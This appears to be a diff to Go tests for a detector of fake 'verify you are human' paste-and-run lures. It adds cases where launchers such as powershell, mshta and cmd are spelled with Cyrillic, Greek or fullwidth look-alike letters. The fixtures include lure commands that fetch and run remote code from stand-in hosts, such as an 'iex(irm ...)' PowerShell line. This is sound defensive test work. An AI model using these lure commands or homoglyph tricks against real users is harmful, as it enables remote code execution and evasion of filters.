@@ -82,6 +82,10 @@ func TestPasteCompact(t *testing.T) {
 		{"&#X4E00; &#X00 &#xAB", "&#x4e00;&#x00&#xab"},                       // left as written, lower-cased
 		{"\xc2  \xa0 power\xffshell \xe2\u200b\x80\x8b", "??power?shell???"}, // bytes that are no UTF-8 join nothing
 		{"&#99999999999999999999999; &#x1000000000000000070;", "&#99999999999999999999999;&#x1000000000000000070;"},
+		{"pоwershell mshtа pοwershell &#1086;", "powershellmshtapowershello"}, // Cyrillic о, а, Greek ο, a reference
+		{"ＰｏｗｅｒＳｈｅｌｌ＋ｒ", "powershell+r"},                                      // fullwidth, capitals lower-cased
+		{"Я не робот, ΟΧΙ", "Янepoбoт,oxi"},                                   // look-alikes fold, the other letters stay as written
+		{"Жбфλé", "Жбфλé"},                                                    // no look-alike: as written
 	} {
 		if got := string(pasteCompact([]byte(tc.doc))); got != tc.want {
 			t.Errorf("pasteCompact(%q) = %q, want %q", tc.doc, got, tc.want)
@@ -101,6 +105,7 @@ func FuzzPasteCommand(f *testing.F) {
 	f.Add([]byte("Press <kbd>Win</kbd>&nbsp;+&nbsp;<kbd>R</kbd>, Ctrl+V: powershell -enc x"))
 	f.Add([]byte("<<<>+<b+&nbsp;cmd /c \xc2\xa0"))
 	f.Add([]byte("Win+R ctrl v p&#x6F;wer\u200bsh&shy;ell &#1114112;&#0000000000115; &#X6d&#"))
+	f.Add([]byte("Win+R Ctrl+V робот p\u043ewershell msht\u0430 \uff30\uff4f\uff57 &#1086;\uff1c"))
 	f.Fuzz(func(t *testing.T, doc []byte) {
 		pasteCommand(doc)
 		c := pasteCompact(doc)
@@ -115,6 +120,47 @@ func FuzzPasteCommand(f *testing.F) {
 			t.Fatalf("containsLauncher(%q) = %v, want %v", c, !want, want)
 		}
 	})
+}
+
+// TestPasteCommandLookAlike: a lure whose launcher is spelled with
+// look-alike letters of another alphabet (Cyrillic, Greek) or in fullwidth
+// letters reads as the launcher; Russian and Greek text keeps its words
+// (the bait "робот" still reads) and names no launcher by accident.
+func TestPasteCommandLookAlike(t *testing.T) {
+	const (
+		plus = "Verify you are human: press Win + R, then Ctrl + V and Enter.\n"
+		tail = " -w hidden -c \"iex(irm 198.51.100.7/v)\""
+	)
+	for _, tc := range []struct {
+		name string
+		doc  string
+		want bool
+	}{
+		{"Cyrillic о in powershell", plus + "p\u043ewershell" + tail, true},
+		{"Cyrillic о, е, р, с, һ, ӏ in powershell", plus + "\u0440\u043ew\u0435r\u0455\u04bb\u0435\u04cf\u04cf" + tail, true},
+		{"Cyrillic а in mshta", plus + "msht\u0430 https://cdn.lure.example/c.hta", true},
+		{"Cyrillic capitals in CMD", plus + "\u0421MD /c start https://cdn.lure.example/c.exe", true},
+		{"Greek ο in powershell", plus + "p\u03bfwershell" + tail, true},
+		{"Greek capitals in conhost", plus + "\u039f\u039d\u0397\u039f\u03a3T conhost", true},
+		{"fullwidth powershell", plus + "\uff50\uff4f\uff57\uff45\uff52\uff53\uff48\uff45\uff4c\uff4c" + tail, true},
+		{"fullwidth capitals", plus + "\uff30\uff2f\uff37\uff25\uff32\uff33\uff28\uff25\uff2c\uff2c" + tail, true},
+		{"a Cyrillic о as a reference", plus + "p&#1086;wershell" + tail, true},
+		{"Russian bait with Ctrl+V", "Я не робот: нажмите Ctrl + V и Enter. powershell" + tail, true},
+
+		{"a look-alike how-to, typed", "Press Win+R, type p\u043ewershell and press Enter, then run Get-Service.", false},
+		{"Russian text with keys, no launcher", "Я не робот: нажмите Ctrl + V и Enter, чтобы вставить текст в окно сообщения. Спасибо, коллеги!", false},
+		{"Greek text with keys, no launcher", "Πατήστε Ctrl + V για επικόλληση του κειμένου. Είμαι άνθρωπος, όχι ρομπότ, ευχαριστώ πολύ.", false},
+		{"a letter that only resembles", plus + "p\u00f6wershell" + tail, false}, // ö is no look-alike of o here
+	} {
+		if got := pasteCommand([]byte(tc.doc)); got != tc.want {
+			t.Errorf("%s: pasteCommand(%q) = %v, want %v", tc.name, tc.doc, got, tc.want)
+		}
+	}
+	for i, w := range pasteBait {
+		if !bytes.Contains(pasteCompact([]byte("x "+w+" y")), []byte(pasteBaitCompact[i])) {
+			t.Errorf("bait %q does not read as %q", w, pasteBaitCompact[i])
+		}
+	}
 }
 
 // TestPasteCommandDisguised: a paste-and-run lure whose launcher (or key
